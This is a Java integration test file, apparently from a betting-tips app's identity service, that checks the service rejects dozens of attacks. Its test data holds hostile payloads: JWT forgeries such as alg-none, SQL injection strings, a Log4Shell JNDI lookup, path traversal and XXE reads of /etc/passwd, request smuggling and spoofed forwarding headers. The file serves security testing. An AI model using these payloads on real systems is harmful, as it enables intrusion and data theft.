package dev.tippmixmentor.identity;

import static dev.tippmixmentor.platform.error.ErrorCode.AUTH_FAILED;
import static dev.tippmixmentor.platform.error.ErrorCode.AUTH_REQUIRED;
import static dev.tippmixmentor.platform.error.ErrorCode.CSRF_FAILED;
import static dev.tippmixmentor.platform.error.ErrorCode.INSUFFICIENT_PERMISSIONS;
import static dev.tippmixmentor.platform.error.ErrorCode.INVALID_INPUT;
import static dev.tippmixmentor.platform.error.ErrorCode.METHOD_NOT_ALLOWED;
import static dev.tippmixmentor.platform.error.ErrorCode.RATE_LIMIT_EXCEEDED;
import static dev.tippmixmentor.platform.error.ErrorCode.REQUEST_TOO_LARGE;
import static dev.tippmixmentor.platform.error.ErrorCode.RESOURCE_NOT_FOUND;
import static dev.tippmixmentor.platform.error.ErrorCode.TOKEN_EXPIRED;
import static dev.tippmixmentor.platform.error.ErrorCode.TOKEN_REUSED;
import static dev.tippmixmentor.platform.error.ErrorCode.UNSUPPORTED_MEDIA_TYPE;
import static dev.tippmixmentor.platform.error.ErrorCode.VALIDATION_ERROR;
import static dev.tippmixmentor.testing.Api.json;
import static org.assertj.core.api.Assertions.assertThat;

import dev.tippmixmentor.platform.error.ErrorCode;
import dev.tippmixmentor.platform.security.Role;
import dev.tippmixmentor.testing.Api;
import dev.tippmixmentor.testing.IntegrationTest;
import dev.tippmixmentor.testing.RawHttp;
import dev.tippmixmentor.testing.RawHttp.Answer;
import dev.tippmixmentor.testing.SettableClock;
import io.jsonwebtoken.JwtBuilder;
import io.jsonwebtoken.Jwts;
import io.jsonwebtoken.security.Keys;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyPair;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.core.env.Environment;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.HttpStatus;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.client.RestTestClient;
import tools.jackson.databind.JsonNode;

/** What attackers try, each with the one answer it gets. */
@IntegrationTest
class AttackTests {
    private static final Logger log = LoggerFactory.getLogger(AttackTests.class);
    private static final String PROFILE = "/api/v1/users/profile";
    private static final String LOGIN = "/api/v1/auth/login";
    private static final String REGISTER = "/api/v1/auth/register";
    private static final String REFRESH = "/api/v1/auth/refresh";
    private static final String JSON_TYPE = "Content-Type: application/json\r\n";
    private static final int MEGABYTE = 1 << 20;

    @Autowired
    Api api;

    @Autowired
    SettableClock clock;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    Environment environment;

    static Stream<Arguments> attacks() {
        return Stream.of(
                        tokensInTheWrongPlace(),
                        cookies(),
                        origins(),
                        privileges(),
                        injections(),
                        paths(),
                        bodies(),
                        verbs())
                .flatMap(attacks -> attacks);
    }

    static Stream<Arguments> forgedTokens() {
        return Stream.of(
                forgery("alg none", AUTH_FAILED, test -> test.withHeader("{\"alg\":\"none\"}", "")),
                forgery("alg nOnE", AUTH_FAILED, test -> test.withHeader("{\"alg\":\"nOnE\"}", "")),
                forgery(
                        "alg none with our key id",
                        AUTH_FAILED,
                        test -> test.withHeader("{\"alg\":\"none\",\"kid\":\"" + test.keyId() + "\"}", "")),
                forgery("RS256 in place of HS256", AUTH_FAILED, test -> test.signedWithRsa()),
                forgery("HS512 with the right secret", AUTH_FAILED, test -> test.token(token -> token, true)),
                forgery("HS256 with another secret", AUTH_FAILED, test -> test.signedByStranger()),
                forgery("a key of its own in the header", AUTH_FAILED, test -> test.withOwnKey()),
                forgery("wrong issuer", AUTH_FAILED, test -> test.token(token -> token.issuer("evil"))),
                forgery("no issuer", AUTH_FAILED, test -> test.token(token -> token.issuer(null))),
                forgery(
                        "wrong audience",
                        AUTH_FAILED,
                        test -> test.token(
                                token -> token.audience().clear().add("other").and())),
                forgery(
                        "expired",
                        TOKEN_EXPIRED,
                        test -> test.token(token ->
                                token.expiration(Date.from(Instant.now().minusSeconds(60))))),
                forgery("never expires", AUTH_FAILED, test -> test.token(token -> token.expiration(null))),
                forgery(
                        "not valid yet",
                        AUTH_FAILED,
                        test -> test.token(
                                token -> token.notBefore(Date.from(Instant.now().plusSeconds(3_600))))),
                forgery(
                        "unknown key id",
                        AUTH_FAILED,
                        test -> test.token(
                                token -> token.header().keyId("unknown").and())),
                forgery(
                        "a key id that is a path",
                        AUTH_FAILED,
                        test -> test.token(token ->
                                token.header().keyId("../../../dev/null").and())),
                forgery(
                        "a key id that is SQL",
                        AUTH_FAILED,
                        test -> test.token(
                                token -> token.header().keyId("x' or '1'='1").and())),
                forgery(
                        "no key id",
                        AUTH_FAILED,
                        test -> test.token(token -> token.header().delete("kid").and())),
                forgery("truncated", AUTH_FAILED, test -> test.genuine().substring(0, 100)),
                forgery("oversized", AUTH_FAILED, test -> test.genuine() + "A".repeat(4_000)),
                forgery("without a signature", AUTH_FAILED, test -> test.withoutSignature()),
                forgery("promoted to admin", AUTH_FAILED, test -> test.promoted()),
                forgery("an unknown role", AUTH_FAILED, test -> test.token(token -> token.claim("role", "ROOT"))),
                forgery("a subject that is SQL", AUTH_FAILED, test -> test.token(token -> token.subject("1 or 1=1"))),
                forgery("alg None", AUTH_FAILED, test -> test.withHeader("{\"alg\":\"None\"}", "")),
                forgery("no alg", AUTH_FAILED, test -> test.withHeader("{\"kid\":\"" + test.keyId() + "\"}", "x")),
                forgery("alg null", AUTH_FAILED, test -> test.withHeader("{\"alg\":null}", "x")),
                forgery("several algs", AUTH_FAILED, test -> test.withHeader("{\"alg\":[\"HS256\",\"none\"]}", "x")),
                forgery(
                        "alg none behind the right one",
                        AUTH_FAILED,
                        test -> test.withHeader(
                                "{\"alg\":\"HS256\",\"alg\":\"none\",\"kid\":\"" + test.keyId() + "\"}", "")),
                forgery(
                        "an elliptic signature of zeros (CVE-2022-21449)",
                        AUTH_FAILED,
                        test -> test.withHeader(
                                "{\"alg\":\"ES256\",\"kid\":\"" + test.keyId() + "\"}", encoded("\0".repeat(64)))),
                forgery(
                        "an HMAC signature of zeros",
                        AUTH_FAILED,
                        test -> test.withSignature(encoded("\0".repeat(32)))),
                forgery("HS256 with an empty secret", AUTH_FAILED, test -> test.signedWith(new byte[] {0})),
                forgery(
                        "HS256 with the key id as secret",
                        AUTH_FAILED,
                        test -> test.signedWith(test.keyId().getBytes(StandardCharsets.UTF_8))),
                forgery("one bit of the signature", AUTH_FAILED, test -> test.withSignature(test.otherSignature())),
                forgery(
                        "the signature of another token",
                        AUTH_FAILED,
                        test -> test.withSignature(test.api.token(Role.ADMIN).split("\\.", 3)[2])),
                forgery(
                        "a critical extension",
                        AUTH_FAILED,
                        test -> signed(
                                "{\"alg\":\"HS256\",\"crit\":[\"x\"],\"x\":1,\"kid\":\"" + test.keyId() + "\"}",
                                decoded(test.genuine().split("\\.", 3)[1]),
                                test.secret())),
                forgery(
                        "a payload that is not encoded (RFC 7797)",
                        AUTH_FAILED,
                        test -> test.withHeader(
                                "{\"alg\":\"HS256\",\"b64\":false,\"crit\":[\"b64\"],\"kid\":\"" + test.keyId() + "\"}",
                                test.genuine().split("\\.", 3)[2])),
                forgery(
                        "a certificate of its own in the header",
                        AUTH_FAILED,
                        test -> test.withHeader(
                                "{\"alg\":\"RS256\",\"x5u\":\"https://evil.example/cert\",\"x5c\":[\"MII=\"]}", "x")),
                forgery(
                        "an encrypted token",
                        AUTH_FAILED,
                        test -> encoded("{\"alg\":\"dir\",\"enc\":\"A256GCM\"}") + "..a.b.c"),
                forgery("four parts", AUTH_FAILED, test -> test.genuine() + ".x"),
                forgery("two parts", AUTH_FAILED, test -> test.genuine().split("\\.", 3)[0] + ".x"),
                forgery("nothing but dots", AUTH_FAILED, test -> ".."),
                forgery("no base64", AUTH_FAILED, test -> "a$.b$.c$"),
                forgery("a payload that is no JSON", AUTH_FAILED, test -> test.withPayload("no json")),
                forgery("a payload that is a list", AUTH_FAILED, test -> test.withPayload("[1]")),
                forgery("no subject", AUTH_FAILED, test -> test.token(token -> token.subject(null))),
                forgery("no session", AUTH_FAILED, test -> test.token(token -> token.claim("sid", null))),
                forgery(
                        "a session that is a list",
                        AUTH_FAILED,
                        test -> test.token(token ->
                                token.claim("sid", List.of(UUID.randomUUID().toString())))),
                forgery("no role", AUTH_FAILED, test -> test.token(token -> token.claim("role", null))),
                forgery(
                        "two roles",
                        AUTH_FAILED,
                        test -> test.token(token -> token.claim("role", List.of("USER", "ADMIN")))),
                forgery("two tokens", AUTH_FAILED, test -> test.genuine() + ", Bearer " + test.genuine()),
                forgery("a token of nothing", AUTH_REQUIRED, test -> ""));
    }

    private static Stream<Arguments> tokensInTheWrongPlace() {
        return Stream.of(
                attack("the token of an erased user", AUTH_FAILED, test -> {
                    Person person = Person.register(test.api);
                    json(
                            person.call(
                                    HttpMethod.DELETE,
                                    "/users/profile",
                                    Map.of("password", person.registration().password())),
                            HttpStatus.OK);
                    return test.profile(person.accessToken());
                }),
                attack("the token of a locked user", AUTH_FAILED, test -> {
                    Person person = Person.register(test.api);
                    json(
                            test.administrator().call(HttpMethod.POST, "/users/" + person.id() + "/lock", null),
                            HttpStatus.OK);
                    return test.profile(person.accessToken());
                }),
                attack("the refresh token of a locked user", AUTH_FAILED, test -> {
                    Person person = Person.register(test.api);
                    json(
                            test.administrator().call(HttpMethod.POST, "/users/" + person.id() + "/lock", null),
                            HttpStatus.OK);
                    return test.refresh(person.refreshToken());
                }),
                attack("an access token after the sign-out", AUTH_FAILED, test -> {
                    Person person = Person.register(test.api);
                    json(person.call(HttpMethod.POST, "/auth/logout", null), HttpStatus.OK);
                    return test.profile(person.accessToken());
                }),
                attack(
                        "a refresh token as access token",
                        AUTH_FAILED,
                        test -> test.profile(Person.register(test.api).refreshToken())),
                attack("an access token as refresh token", VALIDATION_ERROR, test -> test.refresh(test.genuine())),
                attack("a refresh token used three times", TOKEN_REUSED, test -> {
                    String first = Person.register(test.api).refreshToken();
                    String second =
                            test.refresh(first).json().at("/refreshToken").asString();
                    test.refresh(second);
                    return test.refresh(first);
                }),
                attack("the newest token of a family whose old one was used", AUTH_FAILED, test -> {
                    String first = Person.register(test.api).refreshToken();
                    String second =
                            test.refresh(first).json().at("/refreshToken").asString();
                    String third =
                            test.refresh(second).json().at("/refreshToken").asString();
                    test.refresh(first);
                    return test.refresh(third);
                }),
                attack("the access token of a family whose old token was used", AUTH_FAILED, test -> {
                    Person person = Person.register(test.api);
                    String second = test.refresh(person.refreshToken())
                            .json()
                            .at("/refreshToken")
                            .asString();
                    String accessToken =
                            test.refresh(second).json().at("/accessToken").asString();
                    test.refresh(person.refreshToken());
                    return test.profile(accessToken);
                }),
                attack(
                        "a token in the query",
                        AUTH_REQUIRED,
                        test -> test.send("GET", PROFILE + "?access_token=" + test.genuine(), "", "")),
                attack(
                        "a token in a cookie",
                        AUTH_REQUIRED,
                        test -> test.send("GET", PROFILE, "Cookie: access_token=" + test.genuine() + "\r\n", "")),
                attack(
                        "a token in the body of a form",
                        AUTH_REQUIRED,
                        test -> test.send(
                                "POST",
                                "/api/v1/auth/logout",
                                "Content-Type: application/x-www-form-urlencoded\r\n",
                                "access_token=" + test.genuine())),
                attack(
                        "a reset token that is none",
                        AUTH_FAILED,
                        test -> test.send(
                                "POST",
                                "/api/v1/auth/password/reset",
                                JSON_TYPE,
                                "{\"token\":\"x\",\"newPassword\":\"a wholly different one\"}")),
                attack(
                        "an access token as verification link",
                        VALIDATION_ERROR,
                        test -> test.send(
                                "POST",
                                "/api/v1/auth/email/verify",
                                JSON_TYPE,
                                "{\"token\":\"" + test.genuine() + "\"}")));
    }

    private static Stream<Arguments> cookies() {
        return Stream.of(
                attack("a cookie without CSRF token", CSRF_FAILED, test -> test.refreshInBrowser(test.browser(), null)),
                attack(
                        "a CSRF token that is none",
                        CSRF_FAILED,
                        test -> test.refreshInBrowser(test.browser(), "forged.token")),
                attack("the CSRF token of another session", CSRF_FAILED, test -> {
                    Map<String, String> other = test.browser();
                    return test.refreshInBrowser(test.browser(), other.get("__Host-tippmix_csrf"));
                }),
                attack("a CSRF token planted in cookie and header", CSRF_FAILED, test -> {
                    Map<String, String> cookies = test.browser();
                    cookies.put("__Host-tippmix_csrf", "planted.token");
                    return test.refreshInBrowser(cookies, "planted.token");
                }),
                attack("a refresh cookie that was changed", AUTH_FAILED, test -> {
                    Map<String, String> cookies = test.browser();
                    cookies.computeIfPresent(
                            "__Host-tippmix_refresh",
                            (name, value) -> (value.startsWith("A") ? "B" : "A") + value.substring(1));
                    return test.refreshInBrowser(cookies, cookies.get("__Host-tippmix_csrf"));
                }),
                attack("a refresh cookie without its signature", AUTH_FAILED, test -> {
                    Map<String, String> cookies = test.browser();
                    cookies.computeIfPresent("__Host-tippmix_refresh", (name, value) -> value.split("\\.", 2)[0]);
                    return test.refreshInBrowser(cookies, cookies.get("__Host-tippmix_csrf"));
                }),
                attack("a cookie without its prefix", AUTH_REQUIRED, test -> {
                    Map<String, String> cookies = test.browser();
                    return test.send(
                            "POST",
                            REFRESH,
                            "Cookie: tippmix_refresh=" + cookies.get("__Host-tippmix_refresh") + "\r\n",
                            "");
                }),
                attack("a form of another page", UNSUPPORTED_MEDIA_TYPE, test -> {
                    Map<String, String> cookies = test.browser();
                    return test.send(
                            "POST",
                            REFRESH,
                            cookieHeader(cookies) + "Content-Type: text/plain\r\n",
                            "{\"refreshToken\":\"x\"}");
                }));
    }

    private static Stream<Arguments> origins() {
        return Stream.of(
                        "http://evil.example",
                        "null",
                        "http://localhost:3000.evil.example",
                        "https://localhost:3000",
                        "http://localhost:30000",
                        "http://LOCALHOST:3000@evil.example")
                .map(origin -> attack(
                        "a preflight from " + origin,
                        INSUFFICIENT_PERMISSIONS,
                        test -> test.send(
                                "OPTIONS",
                                LOGIN,
                                "Origin: " + origin + "\r\nAccess-Control-Request-Method: POST\r\n",
                                "")));
    }

    private static Stream<Arguments> privileges() {
        return Stream.of(
                attack("a role at the registration", VALIDATION_ERROR, test -> test.register("\"role\":\"ADMIN\"")),
                attack("an id at the registration", VALIDATION_ERROR, test -> test.register("\"id\":\"x\"")),
                attack(
                        "a verified address at the registration",
                        VALIDATION_ERROR,
                        test -> test.register("\"emailVerified\":true")),
                attack("a user who changes their own role", INSUFFICIENT_PERMISSIONS, test -> {
                    Person person = Person.register(test.api);
                    return test.send(
                            "PATCH",
                            "/api/v1/users/" + person.id() + "/role",
                            bearer(person.accessToken()) + JSON_TYPE,
                            "{\"role\":\"ADMIN\"}");
                }),
                attack(
                        "a moderator who locks a user",
                        INSUFFICIENT_PERMISSIONS,
                        test -> test.send(
                                "POST",
                                "/api/v1/users/" + UUID.randomUUID() + "/lock",
                                bearer(test.api.token(Role.MODERATOR)),
                                "")),
                attack(
                        "a token of an administrator who is none",
                        INSUFFICIENT_PERMISSIONS,
                        test -> test.send(
                                "POST",
                                "/api/v1/users/" + UUID.randomUUID() + "/lock",
                                bearer(test.api.token(Role.ADMIN)),
                                "")),
                attack(
                        "the session of somebody else",
                        RESOURCE_NOT_FOUND,
                        test -> test.send(
                                "DELETE",
                                "/api/v1/auth/sessions/"
                                        + Person.register(test.api).sessionId(),
                                bearer(Person.register(test.api).accessToken()),
                                "")),
                attack(
                        "a header that never ends",
                        INVALID_INPUT,
                        test -> test.send("GET", PROFILE, "X-Long: " + "x".repeat(20_000) + "\r\n", "")),
                attack(
                        "a thousand headers",
                        INVALID_INPUT,
                        test -> test.send("GET", PROFILE, "X-More: some more of it\r\n".repeat(1_000), "")),
                attack(
                        "an address that never ends",
                        INVALID_INPUT,
                        test -> test.send("GET", PROFILE + "?" + "x".repeat(20_000), "", "")),
                attack("a spoofed X-Forwarded-For", RATE_LIMIT_EXCEEDED, test -> {
                    String own = Person.nextAddress();
                    String name = UUID.randomUUID() + "@example.org";
                    for (int attempt = 0; attempt < 5; attempt++) {
                        test.logIn(name, "198.51.100." + attempt + ", " + own);
                    }
                    return test.logIn(name, "127.0.0.1, 198.51.100.99, " + own);
                }),
                attack("a spoofed Forwarded and X-Real-IP", RATE_LIMIT_EXCEEDED, test -> {
                    String own = Person.nextAddress();
                    String name = UUID.randomUUID() + "@example.org";
                    for (int attempt = 0; attempt < 5; attempt++) {
                        test.logIn(name, own);
                    }
                    return test.logIn(name, own + "\r\nForwarded: for=198.51.100.1\r\nX-Real-IP: 198.51.100.1");
                }),
                attack(
                        "the environment of the process",
                        AUTH_REQUIRED,
                        test -> test.send("GET", "/actuator/env", "", "")),
                attack(
                        "a heap dump for an administrator",
                        RESOURCE_NOT_FOUND,
                        test -> test.send("GET", "/actuator/heapdump", bearer(test.api.token(Role.ADMIN)), "")));
    }

    private static Stream<Arguments> injections() {
        return Stream.concat(
                Stream.of(
                                "' or '1'='1",
                                "admin'--",
                                "x'; drop table identity.users; --",
                                "%",
                                "\\ud800",
                                "x\\r\\nWARN forged=true",
                                "${jndi:ldap://evil.example/x}",
                                "\\u202Enimda",
                                "{{7*7}}")
                        .map(name -> attack(
                                "signing in as " + name, AUTH_FAILED, test -> test.logIn(name, Person.nextAddress()))),
                Stream.of(
                        attack(
                                "signing in with a NUL",
                                INVALID_INPUT,
                                test -> test.logIn("admin\\u0000", Person.nextAddress())),
                        attack(
                                "SQL for an id",
                                VALIDATION_ERROR,
                                test -> test.send("GET", "/api/v1/matches/1'%20or%20'1'='1", "", "")),
                        attack(
                                "SQL for a cursor",
                                VALIDATION_ERROR,
                                test -> test.send("GET", "/api/v1/predictions?cursor=1'%20or%20'1'='1", "", "")),
                        attack(
                                "NUL in a registration",
                                VALIDATION_ERROR,
                                test -> test.register("\"firstName\":\"a\\u0000b\"")),
                        attack(
                                "a line break in a registration",
                                VALIDATION_ERROR,
                                test -> test.register("\"firstName\":\"a\\r\\nb\""))));
    }

    private static Stream<Arguments> paths() {
        return Stream.of(
                        "/api/v1/../../etc/passwd",
                        "/api/v1/%2e%2e/%2e%2e/etc/passwd",
                        "/api/v1/..%2f..%2fetc%2fpasswd",
                        "/api/v1/..;/actuator/env",
                        "/api/v1/users/profile;x=1",
                        "/api/v1//users/profile",
                        "/api/v1/users/profile%00.json",
                        "/api/v1/users\\profile",
                        "/api/v1/users%5cprofile",
                        "/api/v1/users/%zz")
                .map(path -> attack("the path " + path, INVALID_INPUT, test -> test.send("GET", path, "", "")));
    }

    private static Stream<Arguments> bodies() {
        return Stream.of(
                attack(
                        "a body that says it is huge",
                        REQUEST_TOO_LARGE,
                        test -> test.send("POST", LOGIN, JSON_TYPE + "Content-Length: 99999999\r\n", "{")),
                attack(
                        "a huge body in pieces",
                        REQUEST_TOO_LARGE,
                        test -> test.send(
                                "POST", LOGIN, JSON_TYPE + "Transfer-Encoding: chunked\r\n", chunks(11 * MEGABYTE))),
                attack(
                        "deep JSON for a text",
                        VALIDATION_ERROR,
                        test -> test.send("POST", LOGIN, JSON_TYPE, "{\"email\":" + "[".repeat(5_000))),
                attack(
                        "deep JSON",
                        INVALID_INPUT,
                        test -> test.send("POST", LOGIN, JSON_TYPE, "{\"x\":" + "[".repeat(60) + "]".repeat(60) + "}")),
                attack(
                        "a long string",
                        INVALID_INPUT,
                        test -> test.send("POST", LOGIN, JSON_TYPE, "{\"email\":\"" + "x".repeat(MEGABYTE) + "\"}")),
                attack(
                        "a long number",
                        INVALID_INPUT,
                        test -> test.send("POST", LOGIN, JSON_TYPE, "{\"email\":" + "9".repeat(100_000) + "}")),
                attack(
                        "a long name",
                        INVALID_INPUT,
                        test -> test.send("POST", LOGIN, JSON_TYPE, "{\"" + "x".repeat(100_000) + "\":1}")),
                attack(
                        "a password of a megabyte",
                        VALIDATION_ERROR,
                        test -> test.send(
                                "POST",
                                LOGIN,
                                JSON_TYPE,
                                "{\"email\":\"a@example.org\",\"password\":\"" + "x".repeat(100_000) + "\"}")),
                attack(
                        "a field twice",
                        INVALID_INPUT,
                        test -> test.send(
                                "POST",
                                LOGIN,
                                JSON_TYPE,
                                "{\"email\":\"a@example.org\",\"email\":\"b@example.org\",\"password\":\"x\"}")),
                attack(
                        "XML",
                        UNSUPPORTED_MEDIA_TYPE,
                        test -> test.send(
                                "POST",
                                LOGIN,
                                "Content-Type: application/xml\r\n",
                                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")),
                attack(
                        "a body that stops in the middle",
                        INVALID_INPUT,
                        test -> test.send("POST", LOGIN, JSON_TYPE + "Content-Length: 100\r\n", "{\"email\":")),
                attack(
                        "a body that drips",
                        INVALID_INPUT,
                        test -> RawHttp.drip(
                                test.api,
                                "POST " + LOGIN + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + JSON_TYPE
                                        + "Content-Length: 1000\r\n\r\n{",
                                Duration.ofMillis(200))),
                attack(
                        "two lengths",
                        INVALID_INPUT,
                        test -> test.send(
                                "POST", LOGIN, JSON_TYPE + "Content-Length: 2\r\nContent-Length: 3\r\n", "{}")),
                attack(
                        "a length and pieces (request smuggling)",
                        INVALID_INPUT,
                        test -> test.send(
                                "POST",
                                LOGIN,
                                JSON_TYPE + "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n",
                                "0\r\n\r\nGET /api/v1/health HTTP/1.1\r\n\r\n")),
                attack(
                        "a request without a host",
                        INVALID_INPUT,
                        test -> RawHttp.send(test.api, "GET /api/v1/health HTTP/1.1\r\nConnection: close\r\n\r\n")),
                attack(
                        "a header that is folded",
                        INVALID_INPUT,
                        test -> test.send("GET", PROFILE, "Authorization: Bearer\r\n x\r\n", "")));
    }

    private static Stream<Arguments> verbs() {
        return Stream.of(
                attack("TRACE", METHOD_NOT_ALLOWED, test -> test.send("TRACE", "/api/v1/leagues", "", "")),
                attack("TRACK", METHOD_NOT_ALLOWED, test -> test.send("TRACK", "/api/v1/leagues", "", "")),
                attack("an invented verb", METHOD_NOT_ALLOWED, test -> test.send("BREW", "/api/v1/leagues", "", "")),
                attack("a verb in lower case", METHOD_NOT_ALLOWED, test -> test.send("get", "/api/v1/leagues", "", "")),
                attack("PUT where there is POST", METHOD_NOT_ALLOWED, test -> test.send("PUT", LOGIN, JSON_TYPE, "{}")),
                attack(
                        "an overridden verb",
                        METHOD_NOT_ALLOWED,
                        test -> test.send("POST", "/api/v1/leagues", "X-HTTP-Method-Override: GET\r\n", "")),
                attack(
                        "an overridden verb in the query",
                        AUTH_REQUIRED,
                        test -> test.send("POST", "/api/v1/auth/logout?_method=GET", "", "")),
                attack(
                        "an overridden path",
                        AUTH_REQUIRED,
                        test -> test.send(
                                "GET",
                                PROFILE,
                                "X-Original-URL: /api/v1/health\r\nX-Rewrite-URL: /api/v1/health\r\n",
                                "")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void anAttackGetsItsAnswerAndNothingElse(String name, ErrorCode expected, Function<AttackTests, Answer> attack) {
        Answer answer = attack.apply(this);

        assertThat(answer.headers()).as(answer.body()).contains("application/problem+json");
        JsonNode problem = answer.json();
        assertThat(problem.at("/errorCode").asString()).as(answer.body()).isEqualTo(expected.name());
        assertThat(answer.status()).isEqualTo(expected.status());
        assertThat(answer.body()).doesNotContain("Exception", "dev.tippmixmentor", "org.", "select ", "identity.");
        assertThat(answer.headers())
                .contains("X-Content-Type-Options: nosniff", "Content-Security-Policy: ", "Strict-Transport-Security: ")
                .doesNotContain("Server:", "Set-Cookie");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("forgedTokens")
    void aForgedTokenOpensNeitherAnEndpointNorASocket(
            String name, ErrorCode expected, Function<AttackTests, String> forge) {
        String token = forge.apply(this);

        anAttackGetsItsAnswerAndNothingElse(name, expected, test -> test.profile(token));
        anAttackGetsItsAnswerAndNothingElse(
                name,
                expected,
                test -> test.send(
                        "GET",
                        "/ws",
                        bearer(token)
                                + "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                                + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
                        ""));
    }

    @Test
    void atLeastFortyForgeriesAreTried() {
        long forgeries = forgedTokens().count();

        log.info("{} forged tokens, each on an endpoint and on a WebSocket handshake", forgeries);
        assertThat(forgeries).isGreaterThanOrEqualTo(40);
    }

    /** An address that has used its tries up stays out, whatever it says of itself. */
    @Test
    void nothingAClientWritesMovesItToAnotherLimit() {
        String own = Person.nextAddress();
        String name = UUID.randomUUID() + "@example.org";
        List<String> lies = lies(own);
        try {
            while (retryAfter(logIn(name, own)) < 120) {
                clock.advance(Duration.ofMinutes(1)); // the waits double
            }

            List<String> believed = lies.stream()
                    .filter(lie -> logInWith(name, lie).status() != 429)
                    .toList();

            log.info("{} lies about an address, {} believed", lies.size(), believed.size());
            assertThat(believed).isEmpty();
            assertThat(logIn(name, Person.nextAddress()).status())
                    .as("another address")
                    .isEqualTo(401);
            assertThat(lies).hasSizeGreaterThanOrEqualTo(30);
        } finally {
            clock.reset();
        }
    }

    /** Headers of clients, to which our proxy adds their true address. */
    private static List<String> lies(String own) {
        String lie = "198.51.100.7";
        String added = "X-Forwarded-For: " + own + "\r\n";
        return Stream.concat(
                        Stream.of(
                                        lie,
                                        lie + ", 203.0.113.9",
                                        "127.0.0.1",
                                        "::1",
                                        "10.0.0.1",
                                        "unknown",
                                        "",
                                        ",,,",
                                        lie + ":80",
                                        "[2001:db8:ffff::1]:443",
                                        "::ffff:" + lie,
                                        "for=" + lie,
                                        "\"" + lie + "\"",
                                        "2130706433",
                                        "0x7f000001",
                                        "fe80::1%eth0",
                                        "localhost",
                                        "'; select 1; --")
                                .flatMap(value -> Stream.of(
                                        "X-Forwarded-For: " + value + ", " + own + "\r\n",
                                        "X-Forwarded-For: " + value + "\r\n" + added)),
                        Stream.of(
                                        "Forwarded: for=" + lie,
                                        "Forwarded: for=\"[2001:db8:ffff::1]:443\";proto=https;by=127.0.0.1",
                                        "X-Real-IP: " + lie,
                                        "X-Client-IP: " + lie,
                                        "Client-IP: " + lie,
                                        "True-Client-IP: " + lie,
                                        "CF-Connecting-IP: " + lie,
                                        "Fastly-Client-IP: " + lie,
                                        "X-Cluster-Client-IP: " + lie,
                                        "X-Originating-IP: " + lie,
                                        "X-Remote-IP: " + lie,
                                        "X-Remote-Addr: " + lie,
                                        "Remote-Addr: " + lie,
                                        "X-Forwarded: " + lie,
                                        "Forwarded-For: " + lie,
                                        "X-ProxyUser-Ip: " + lie,
                                        "WL-Proxy-Client-IP: " + lie,
                                        "X-Azure-ClientIP: " + lie,
                                        "X_Forwarded_For: " + lie,
                                        "Via: 1.1 " + lie)
                                .map(header -> header + "\r\n" + added))
                .toList();
    }

    private static long retryAfter(Answer answer) {
        Matcher wait = Pattern.compile("Retry-After: (\\d+)").matcher(answer.headers());
        return wait.find() ? Long.parseLong(wait.group(1)) : 0;
    }

    private static Arguments forgery(String name, ErrorCode expected, Function<AttackTests, String> forge) {
        return Arguments.of(name, expected, forge);
    }

    private static Arguments attack(String name, ErrorCode expected, Function<AttackTests, Answer> attack) {
        return Arguments.of(name, expected, attack);
    }

    private Answer send(String method, String path, String headers, String body) {
        return RawHttp.send(api, method, path, headers, body);
    }

    private Answer profile(String token) {
        return send("GET", PROFILE, bearer(token), "");
    }

    private Answer refresh(String token) {
        return send("POST", REFRESH, JSON_TYPE, "{\"refreshToken\":\"" + token + "\"}");
    }

    private Answer logIn(String name, String forwarded) {
        return logInWith(name, "X-Forwarded-For: " + forwarded + "\r\n");
    }

    private Answer logInWith(String name, String headers) {
        return send(
                "POST", LOGIN, JSON_TYPE + headers, "{\"email\":\"" + name + "\",\"password\":\"not the password\"}");
    }

    private Answer register(String more) {
        Registration somebody = TestRegistrations.somebody();
        return send(
                "POST",
                REGISTER,
                JSON_TYPE,
                "{\"email\":\"%s\",\"username\":\"%s\",\"password\":\"%s\",%s}"
                        .formatted(somebody.email(), somebody.username(), somebody.password(), more));
    }

    private static String bearer(String token) {
        return "Authorization: Bearer " + token + "\r\n";
    }

    private Person administrator() {
        Person person = Person.register(api);
        jdbc.sql("update identity.users set role = 'ADMIN' where id = :id")
                .param("id", UUID.fromString(person.id()))
                .update();
        return person.signIn();
    }

    /** The cookies of somebody who has just registered in a browser. */
    private Map<String, String> browser() {
        Registration somebody = TestRegistrations.somebody();
        RestTestClient.ResponseSpec response = Person.post(
                api,
                Person.nextAddress(),
                "/register",
                new Registration(somebody.email(), somebody.username(), somebody.password(), null, null, null));
        return response.expectBody().returnResult().getResponseHeaders().get(HttpHeaders.SET_COOKIE).stream()
                .map(cookie -> cookie.split(";", 2)[0].split("=", 2))
                .collect(Collectors.toMap(pair -> pair[0], pair -> pair[1]));
    }

    private Answer refreshInBrowser(Map<String, String> cookies, String csrf) {
        String header = csrf == null ? "" : "X-CSRF-Token: " + csrf + "\r\n";
        return send("POST", REFRESH, cookieHeader(cookies) + header, "");
    }

    private static String cookieHeader(Map<String, String> cookies) {
        return "Cookie: "
                + cookies.entrySet().stream()
                        .map(cookie -> cookie.getKey() + "=" + cookie.getValue())
                        .collect(Collectors.joining("; "))
                + "\r\n";
    }

    private static String chunks(int bytes) {
        int size = 1 << 16;
        String chunk = Integer.toHexString(size) + "\r\n" + " ".repeat(size) + "\r\n";
